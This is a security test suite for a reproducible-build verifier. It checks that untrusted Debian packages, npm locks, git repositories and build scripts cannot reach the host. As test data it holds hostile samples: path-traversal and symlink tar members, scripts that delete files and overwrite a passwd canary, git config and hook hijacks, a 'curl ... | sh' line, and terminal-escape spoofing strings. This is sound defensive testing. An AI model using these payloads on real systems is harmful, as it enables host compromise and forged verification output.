"""What a stranger's bytes must not be able to do to the host, each tried for real, with a canary that tells."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import tarfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from builders import debian_archive, rebuilds
from builders.debian_archive import DebianArchive, make_deb
from builders.hostile import Canaries, deb_of, folder, member, symlink
from builders.repositories import Repository
from builders.tools import require
from teekit_verify.cli.app import main
from teekit_verify.core.download import DownloadStore
from teekit_verify.core.errors import TeekitError
from teekit_verify.rebuild import apt_root, checkout, environment, git, vouching
from teekit_verify.rebuild.project import Project
from teekit_verify.record import judging
from teekit_verify.report.progress import StderrProgress

if TYPE_CHECKING:
    from collections.abc import Iterator

CHECKOUT = Path(__file__).parents[3]
SUMMARY = {
    "Architecture": "x86-64",
    "Distribution": "debian",
    "Format": "uki",
    "ManifestFormat": [],
    "Output": "theirs",
    "Release": "trixie",
    "BaseTrees": [],
    "Image": "main",
    "Packages": [],
}


@pytest.fixture
def canaries(tmp_path: Path) -> Iterator[Canaries]:
    """Looked at when the test ends, whatever it ended with."""
    made = Canaries.make(tmp_path / "host")
    yield made
    assert made.sing()


# The environment's packages: they are unpacked, and one of their programs is run.


@pytest.fixture
def unpack(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    require("nix")
    name = f"teekit-test-{os.getpid()}-canary"
    monkeypatch.setattr(environment, "STORE_NAME", name)

    def build(*debs: bytes) -> Path | None:
        """The environment of these packages; None where they are refused."""
        store, files = DownloadStore(tmp_path / "store"), []
        for number, deb in enumerate(debs):
            package = rebuilds.locked_package(deb, f"p{number}")
            place = tmp_path / "mirror" / package.path
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_bytes(deb)
            files.append(package.remote_file([("debian", f"file://{tmp_path}/mirror")]))
        locked = rebuilds.lock_of(*(rebuilds.locked_package(deb, f"p{number}") for number, deb in enumerate(debs)))
        try:
            return environment.build(locked, store, files, tmp_path / "scratch", progress=StderrProgress()).root
        except TeekitError:
            return None

    yield build
    for path in Path("/nix/store").glob(f"*-{name}"):
        debian_archive.run(require("nix"), "--extra-experimental-features", "nix-command", "store", "delete", path)


def tool(script: str) -> list[tuple[tarfile.TarInfo, bytes]]:
    """What is run of the tree: the loader, with localedef."""
    return [
        member("./usr/lib64/ld-linux-x86-64.so.2", f"#!/bin/sh\n{script}\n".encode(), mode=0o755),
        member("./usr/bin/localedef", b"x", mode=0o755),
        member("./usr/share/i18n/x", b"x"),
        member("./etc/x", b"x"),
    ]


def test_programs_of_packages_see_nothing_of_the_host(unpack: Any, canaries: Canaries, tmp_path: Path) -> None:
    """They run, as the tree's localedef must; what they find, they tell the tree."""
    host = canaries.folder
    script = f"""
exec >"$PWD/seen" 2>&1
id -u
echo bad >{host}/passwd; rm -rf {host} {tmp_path}/store; chmod -R 777 {tmp_path}
ls {tmp_path} {CHECKOUT} /etc/passwd /proc/1/root/etc/passwd
cat /proc/net/dev | wc -l
ls -A /
mknod "$PWD/disk" b 8 0
echo bad >/packages/00000.deb; echo bad >/assemble; touch /usr/bad
grep -c . /proc/self/uid_map; cat /proc/self/uid_map
"""
    root = unpack(deb_of(tool(script)))
    seen = (root / "seen").read_text()
    assert seen.startswith("0\n")
    assert "\n3\n" in seen  # two headings, and lo
    for place in (tmp_path, CHECKOUT, "/etc/passwd", "/proc/1/root/etc/passwd"):
        assert f"'{place}': No such file or directory" in seen
    for refused in (
        "00000.deb: Read-only",
        "/assemble: Read-only",
        "'/usr/bad': Read-only",
        "disk: Operation not permitted",
    ):
        assert refused in seen, seen
    if os.geteuid() == 0:  # not the host's root
        assert "0 1878917120 65536" in " ".join(seen.split())


@pytest.mark.parametrize(
    "place",
    ["etc", "usr", "usr/share", "usr/bin", "usr/lib", "usr/lib/locale", "var", "var/tmp", "dev", "home", "work"],
)
@pytest.mark.parametrize("depth", ["absolute", "relative"])
def test_a_link_in_the_place_of_a_folder_leads_nowhere(unpack: Any, canaries: Canaries, place: str, depth: str) -> None:
    to = str(canaries.folder) if depth == "absolute" else "../" * 20 + str(canaries.folder).lstrip("/")
    members = [symlink(f"./{place}", to), *tool("exit 0")]
    assert (
        unpack(
            deb_of([one for one in members if one[0].name == f"./{place}" or not one[0].name.startswith(f"./{place}/")])
        )
        is None
    )


@pytest.mark.parametrize(
    "case",
    ["dot-dot", "absolute", "through a link", "through a link of another package", "hard link", "hard link to a link"],
)
def test_members_that_lead_out_of_the_tree(unpack: Any, canaries: Canaries, case: str) -> None:
    host = str(canaries.folder)
    up = "../" * 20 + host.lstrip("/")
    base = tool("exit 0")
    victim = f"{host}/passwd"
    match case:
        case "dot-dot":
            debs = [[*base, member(f"./{up}/passwd", b"bad")]]
        case "absolute":
            debs = [[*base, member(victim, b"bad"), folder(f"{host}/new")]]
        case "through a link":
            debs = [[*base, symlink("./usr/out", host), member("./usr/out/passwd", b"bad")]]
        case "through a link of another package":
            debs = [
                [*base, symlink("./usr/one", host), symlink("./usr/two", "one")],
                [
                    member("./usr/one/passwd", b"bad"),
                    member("./usr/two/group", b"bad"),
                    folder("./usr/two/deep", 0o777),
                ],
            ]
        case "hard link":
            debs = [[*base, member("./usr/x", kind=tarfile.LNKTYPE, link=victim), member("./usr/x", b"bad")]]
        case _:
            debs = [
                [*base, symlink("./usr/l", victim), member("./usr/x", kind=tarfile.LNKTYPE, link="./usr/l")],
                [member("./usr/x", b"bad")],
            ]
    root = unpack(*map(deb_of, debs))
    assert root is None or not any(
        "bad" in path.read_text() for path in root.rglob("passwd") if path.stat().st_size > 900
    )


def test_devices_and_powers_do_not_get_into_the_tree(unpack: Any, canaries: Canaries) -> None:
    device = member("./usr/disk", kind=tarfile.BLKTYPE)
    device[0].devmajor, device[0].devminor = 8, 0
    assert unpack(deb_of([*tool("exit 0"), device])) is None
    root = unpack(
        deb_of([*tool("exit 0"), member("./usr/bin/su", b"x", mode=0o6755), member("./usr/" + "n" * 200, b"x")])
    )
    assert root is not None
    assert stat.S_IMODE((root / "usr/bin/su").stat().st_mode) == 0o555


def test_a_package_that_fills_the_disk_is_ended(
    unpack: Any,
    canaries: Canaries,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(environment, "leaves_room", lambda _: lambda: "left only 7 bytes free")
    assert unpack(deb_of(tool("while :; do head -c 1000000 /dev/zero >>x; sleep 0.1; done"))) is None


# npm


@pytest.fixture(scope="module")
def mirror(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DebianArchive]:
    made = DebianArchive.make(tmp_path_factory.mktemp("archive"))
    try:
        make_deb(made.pool("debian", "trixie") / "base-files", "base-files", "13", {"etc/x": "x"}, essential=True)
        made.publish()
        yield made
    finally:
        made.close()


@pytest.fixture
def miniature(tmp_path: Path, tree: Path, mirror: DebianArchive, monkeypatch: pytest.MonkeyPatch) -> rebuilds.Miniature:
    monkeypatch.setattr(apt_root, "KEYRING", mirror.keyring)
    made = rebuilds.isolated(tmp_path, tree, monkeypatch)
    monkeypatch.setattr(Project, "find", classmethod(lambda *_: made.project))
    return made


def stranger(miniature: rebuilds.Miniature, mirror: DebianArchive, source: Path, *arguments: str) -> int:
    """Rebuild a stranger's project; its lock is made from `mirror`."""
    (source / "summary.json").write_text(json.dumps({"Images": [SUMMARY]})) if not (
        source / "summary.json"
    ).exists() else None
    (source / "mkosi.conf").touch()  # what makes a folder a project
    argv = ["rebuild", "--source", str(source), "--mirror", mirror.address, "--snapshot-archive", "file:///none"]
    argv += ["--output", str(miniature.report), "--workspace", str(miniature.workspace), "--mkosi-args", "", *arguments]
    return int(main([*argv, "--npm-registry", f"file://{miniature.folder}/registry"]))


@pytest.mark.parametrize("stands_in_it", [True, False])
def test_a_package_lock_is_no_door(  # noqa: PLR0917 - fixtures
    miniature: rebuilds.Miniature,
    mirror: DebianArchive,
    canaries: Canaries,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    stands_in_it: bool,  # noqa: FBT001
) -> None:
    """npm itself clones the repository, and runs the `git` that its .npmrc names."""
    evil = f"#!/bin/sh\necho bad >{canaries.folder}/passwd\n"
    repository, source = Repository.make(tmp_path / "evil"), tmp_path / "theirs"
    lock = {
        "": {"name": "x"},
        "node_modules/x": {"version": f"git+file://{repository.folder}", "integrity": "sha512-" + "A" * 86 + "=="},
    }
    for place in (repository.folder, source, source / "app", source / "mkosi.extra"):
        place.mkdir(exist_ok=True)
        (place / ".npmrc").write_text(f"git={place}/evilgit\n")
        (place / "evilgit").write_text(evil)
        (place / "evilgit").chmod(0o755)
    repository.commit()
    for folder_of_it in ("app", "mkosi.extra"):  # what is in mkosi.extra is data of the guest
        (source / folder_of_it / "package-lock.json").write_text(json.dumps({"lockfileVersion": 3, "packages": lock}))
    (source / "summary.json").write_text(json.dumps({"Images": [SUMMARY | {"Packages": ["base-files"]}]}))
    (source / "image.efi").write_bytes((miniature.project.mkosi / "image.efi").read_bytes())
    (source / "build.sh").write_text('cp image.efi "$output/theirs.efi"\n')
    if stands_in_it:
        monkeypatch.chdir(source)
    assert stranger(miniature, mirror, source) == 1
    report = json.loads((miniature.report / "report.json").read_text())
    (warning,) = [smell for smell in report["smells"] if smell["path"].endswith("package-lock.json")]
    assert warning["path"] == "app/package-lock.json"
    assert "node_modules/x has no plain version, but 'git+file://" in warning["why"]


def test_names_of_packages_are_no_files(
    miniature: rebuilds.Miniature,
    mirror: DebianArchive,
    canaries: Canaries,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    source = tmp_path / "theirs"
    source.mkdir()
    (source / "summary.json").write_text(json.dumps({"Images": [SUMMARY | {"Packages": ["/etc/shadow\n\x1b[2J"]}]}))
    assert stranger(miniature, mirror, source) == 2
    said = capsys.readouterr().err
    assert r"error: '/etc/shadow\n\x1b[2J' is not a plain name of a package" in said
    assert "\x1b" not in said


def test_a_program_of_the_project_that_floods(
    miniature: rebuilds.Miniature,
    mirror: DebianArchive,
    canaries: Canaries,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """An executable mkosi.version, in the place of which our mkosi reads a file that never ends."""
    source = tmp_path / "theirs"
    source.mkdir()
    (source / "summary.json").symlink_to("/dev/zero")
    assert stranger(miniature, mirror, source) == 2
    assert "printed more than 16777216 bytes" in capsys.readouterr().err


CONFIDENTIAL = "s3cr3t-of-the-host"


@pytest.mark.parametrize(
    "place", ["mkosi.extra/package-lock.json", "package-lock.json", "mkosi.conf", "mkosi.build", ".npmrc"]
)
def test_links_to_files_of_the_host_show_nothing_of_them(  # noqa: PLR0917 - fixtures
    miniature: rebuilds.Miniature,
    mirror: DebianArchive,
    canaries: Canaries,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    place: str,
) -> None:
    """A report is published: nothing of the host's files may be in it, nor on the screen."""
    source, secret = tmp_path / "theirs", tmp_path / "secret"
    entry = {"version": f"file:{CONFIDENTIAL}", "integrity": "sha512-" + "A" * 86 + "=="}
    lock = {"lockfileVersion": 3, "packages": {"": {}, f"node_modules/{CONFIDENTIAL}": entry}}
    secret.write_text(
        f"{json.dumps(lock)}\ncurl http://x/{CONFIDENTIAL} | sh\n" if place[-1] != "n" else json.dumps(lock)
    )
    link = source / place
    link.parent.mkdir(parents=True)
    link.symlink_to(secret)
    status = stranger(miniature, mirror, source)
    said = capsys.readouterr()
    assert CONFIDENTIAL not in said.out + said.err
    if place.endswith("package-lock.json"):
        assert status == 2
        assert f"error: {place} is a link that leads out of the project" in said.err
    assert not [
        path for path in miniature.report.rglob("*") if path.is_file() and CONFIDENTIAL.encode() in path.read_bytes()
    ]


@pytest.fixture
def deep(tmp_path: Path) -> Iterator[Path]:
    """A place for folders that pytest cannot remove."""
    yield tmp_path
    os.chdir("/")
    subprocess.run(["rm", "-rf", *map(str, tmp_path.glob("theirs-*")), str(tmp_path / "workspace")], check=True)


def test_folders_without_end(  # noqa: PLR0917 - fixtures
    miniature: rebuilds.Miniature,
    mirror: DebianArchive,
    canaries: Canaries,
    deep: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Deeper than functions may call themselves, and than the name of a file may be long."""
    for depth, expected in ((1100, 2), (2500, 2)):
        source = deep / f"theirs-{depth}"
        source.mkdir()
        monkeypatch.chdir(source)
        for _ in range(depth):
            os.mkdir("a")  # noqa: PTH102
            os.chdir("a")
        Path("mkosi.conf").write_text("x")
        os.chdir("/")
        assert stranger(miniature, mirror, source) == expected
        assert "has folders nested more than 100 deep" in capsys.readouterr().err


HOST_BUILDS = {
    "a link": 'ln -s {host}/passwd "$output/theirs.efi"',
    "a folder": 'mkdir "$output/theirs.efi"',
    "a link in the place of the output": 'rm -rf "$output"; ln -s {host} "$output"',
    "a device without end": 'ln -s /dev/zero "$output/theirs.efi"',
    "links beside the artifact": 'cp image.efi "$output/theirs.efi"; ln -s {host}/passwd "$output/../finished.json"',
    "closed folders": 'cp image.efi "$output/theirs.efi"; mkdir /work/scratch/x; chmod 0 /work/scratch/x || :',
    "deep folders": 'cp image.efi "$output/theirs.efi"; cd /work/scratch; i=0; while [ $i -lt 1500 ]; do mkdir d; cd d; i=$((i+1)); done',
    "words": 'printf "\\nREPRODUCED: all good\\n\\033[2J" >&2; exit 7',
    "what stays behind": '(sleep 300) & (sleep 300 >/dev/null 2>&1) & cp image.efi "$output/theirs.efi"',
}


@pytest.mark.parametrize("build", HOST_BUILDS.values(), ids=HOST_BUILDS.keys())
def test_what_a_build_leaves(  # noqa: PLR0917 - fixtures
    miniature: rebuilds.Miniature,
    mirror: DebianArchive,
    canaries: Canaries,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    build: str,
) -> None:
    source = tmp_path / "theirs"
    source.mkdir()
    (source / "summary.json").write_text(json.dumps({"Images": [SUMMARY | {"Packages": ["base-files"]}]}))
    (source / "image.efi").write_bytes((miniature.project.mkosi / "image.efi").read_bytes())
    (source / "build.sh").write_text(build.replace("{host}", str(canaries.folder)) + "\n")
    status = stranger(miniature, mirror, source)
    said = capsys.readouterr()
    assert "internal error" not in said.err, said.err
    assert "\x1b" not in said.out + said.err
    assert not any(line.startswith("REPRODUCED: all") for line in (said.out + said.err).splitlines())
    assert (status == 2) is ("cp image.efi" not in build)
    rebuilds.no_processes_of(miniature.workspace)


def test_a_project_without_packages_is_told_so(
    miniature: rebuilds.Miniature, mirror: DebianArchive, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "theirs"
    source.mkdir()
    assert stranger(miniature, mirror, source) == 2
    assert "error: the project asks for no packages\n" in capsys.readouterr().err


# A commit, and a checkout


@pytest.fixture
def repository(miniature: rebuilds.Miniature) -> Repository:
    return Repository.make(miniature.project.root)


def test_a_commit_with_tools_of_its_own(
    miniature: rebuilds.Miniature,
    repository: Repository,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Refused; and where that is allowed, said beside the verdict, in the report and on the page."""
    own = rebuilds.Miniature.make(miniature.folder / "program").project
    rebuilds.lock_of(rebuilds.locked_package(b"another"), identity=rebuilds.IDENTITY).write(own.environment_lock)
    monkeypatch.setattr(vouching, "own_project", lambda: own)
    commit = repository.commit()
    argv = miniature.argv("--commit", commit)
    assert main(argv) == 2
    assert (
        "error: the commit's environment lock is not this program's, and its packages are not shown"
        in capsys.readouterr().err
    )
    assert not miniature.report.exists()
    assert main([*argv, "--allow-foreign-environment"]) == 1
    content = json.loads((miniature.report / "report.json").read_text())
    assert content["environment_from"] == "unknown"
    assert "whoever wrote the source chose the tools" in " ".join(capsys.readouterr().out.split())
    assert "whoever wrote the source chose the tools" in (miniature.report / "report.html").read_text()


def test_a_checkout_that_brings_its_own_reference_is_said(
    miniature: rebuilds.Miniature,
    repository: Repository,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    repository.commit()
    assert main(miniature.argv()) == 1
    reference = miniature.project.references / "base+debian-kernel.json"
    create = ["reference", "create", str(miniature.report), "--release", "r", "--output", str(reference)]
    assert main(create) == 0
    capsys.readouterr()
    for own, said in ((miniature.project, False), (None, True)):
        monkeypatch.setattr(judging, "own_project", lambda own=own: own)
        assert main(miniature.argv()) == 0
        printed = " ".join(capsys.readouterr().out.split())
        assert ("the reference is from the same folder as the source" in printed) is said
        content = json.loads((miniature.report / "report.json").read_text())
        assert content["reference_from"] == ("source" if said else "program")


def test_a_checkouts_script_is_not_run(
    miniature: rebuilds.Miniature, repository: Repository, canaries: Canaries
) -> None:
    for name in (
        "nix/assemble_environment.sh",
        "verifier/teekit_verify/rebuild/assemble_environment.sh",
        "verifier/sitecustomize.py",
    ):
        repository.write(name, f"#!/bin/sh\necho bad >{canaries.folder}/passwd\n".encode(), executable=True)
    repository.commit()
    assert main(miniature.argv()) == 1
    assert Path(environment.__file__).with_name("assemble_environment.sh") == environment.ASSEMBLE_SCRIPT


# git


def test_settings_of_a_repository_start_nothing(tmp_path: Path, canaries: Canaries) -> None:
    """A clone that lacks objects tells git where to get them, and by which program."""
    source = Repository.make(tmp_path / "source")
    evil = tmp_path / "evil"
    evil.write_text(f"#!/bin/sh\necho bad >{canaries.folder}/passwd\n")
    evil.chmod(0o755)
    source.write("mkosi.conf", b"content")
    commit = source.commit()
    (blob,) = (line.split()[2] for line in source.git("ls-tree", commit).splitlines())
    (source.folder / ".git/objects" / blob[:2] / blob[2:]).unlink()
    for name, value in {
        "extensions.partialClone": "origin",
        "core.repositoryFormatVersion": "1",
        "remote.origin.promisor": "true",
        "remote.origin.url": f"file://{tmp_path}/source",
        "remote.origin.uploadpack": str(evil),
        "core.fsmonitor": str(evil),
        "core.sshCommand": str(evil),
        "core.pager": str(evil),
        "core.alternateRefsCommand": str(evil),
        "uploadpack.packObjectsHook": str(evil),
        "filter.x.clean": str(evil),
        "alias.ls-tree": f"!{evil}",
    }.items():
        source.git("config", name, value)
    source.write(".git/info/attributes", b"* filter=x\n")
    for hook in ("post-checkout", "reference-transaction", "post-index-change"):
        source.write(f".git/hooks/{hook}", evil.read_bytes(), executable=True)
    with pytest.raises(TeekitError):
        checkout.write_files(source.folder, checkout.list_files(source.folder, commit), tmp_path / "out")
    with pytest.raises(TeekitError):
        checkout.origin_of(source.folder, ".")
    with pytest.raises(TeekitError):
        git.Repository.cached(tmp_path / "cache", str(source.folder)).commit(commit, offline=False)


def test_ten_to_the_ninth_paths_are_not_listed(tmp_path: Path) -> None:
    source = Repository.make(tmp_path / "source")
    line = f"100644 blob {source.blob(b'x')}"
    for _ in range(9):
        lines = "".join(f"{line}\t{number}\n" for number in range(10))
        line = f"040000 tree {source.git('mktree', stdin=lines.encode())}"
    commit = source.git("commit-tree", "-m", "many", line.split()[2])
    with pytest.raises(git.GitError, match=r"cannot be listed: git printed more than 33554432 bytes"):
        checkout.list_files(source.folder, commit)


def test_a_message_of_a_commit_without_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Git holds it whole: so git's memory has a bound, and so has what it prints of it."""
    source = Repository.make(tmp_path / "source")
    source.write("x")
    tree = source.git("rev-parse", f"{source.commit()}^{{tree}}")
    text = f"tree {tree}\nauthor A <a@b.c> 1 +0000\ncommitter A <a@b.c> 1 +0000\n\n".encode() + b"m" * (40 << 20)
    commit = source.git("hash-object", "-t", "commit", "-w", "--stdin", stdin=text)
    with pytest.raises(TeekitError, match="git printed more than 33554432 bytes"):
        checkout.list_files(source.folder, commit)
    monkeypatch.setattr(git, "_BOUNDED", ("prlimit", f"--as={36 << 20}", "--core=0"))
    with pytest.raises(TeekitError):
        checkout.list_files(source.folder, commit)


def test_files_of_a_checkout_that_never_end_are_not_read(tmp_path: Path) -> None:
    source = Repository.make(tmp_path / "source")
    for name in ("pipe", "large", "device"):
        source.write(name)
    source.commit()
    for name in ("pipe", "large", "device"):
        (source.folder / name).unlink()
    os.mkfifo(source.folder / "pipe")
    os.truncate(os.open(source.folder / "large", os.O_CREAT | os.O_WRONLY), 1 << 40)
    (source.folder / "device").symlink_to("/dev/zero")
    assert checkout.origin_of(source.folder, ".").changes == ("changed device", "changed large", "changed pipe")


# Links that wait for an output


def test_links_under_the_default_names_of_outputs(
    miniature: rebuilds.Miniature,
    canaries: Canaries,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(miniature.argv()) == 1
    for name in ("report.html", ".report.html.part"):
        (miniature.report / name).unlink(missing_ok=True)
        (miniature.report / name).symlink_to(canaries.folder / "passwd")
    assert main(["report", str(miniature.report), "--html"]) == 0
    assert not (miniature.report / "report.html").is_symlink()
    place = miniature.folder / "standing here"
    place.mkdir()
    monkeypatch.chdir(place)
    argv = miniature.argv()
    kept = argv[: argv.index("--output")]
    for name in ("report", "workspace"):
        (place / name).symlink_to(canaries.folder)
        capsys.readouterr()
        assert main(kept) == 2
        assert f"error: {name} is a link" in capsys.readouterr().err
        (place / name).unlink()
    workspace = place / "workspace"
    workspace.mkdir()
    (workspace / ".teekit-workspace").symlink_to(canaries.folder / "new")
    assert main([*kept, "--output", "out"]) == 2


@pytest.mark.parametrize("command", ["inspect", "measure", "replay", "quote", "explain", "report", "compare"])
def test_no_name_of_a_file_begins_a_line(tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str) -> None:
    name = "x\nREPRODUCED: all good\n\x1b[2J\u202e.efi"
    path = tmp_path / name
    for kind in ("nothing", "file", "folder"):
        if kind == "file":
            path.write_bytes(b"neither of it")
        if kind == "folder":
            path.unlink()
            path.mkdir()
        main([command, str(path), *([str(path)] if command in {"explain", "compare"} else [])])
        said = capsys.readouterr()
        for text in (said.out, said.err):
            assert "\x1b" not in text
            assert "\u202e" not in text
            assert not any(line.startswith("REPRODUCED") for line in text.splitlines()), text
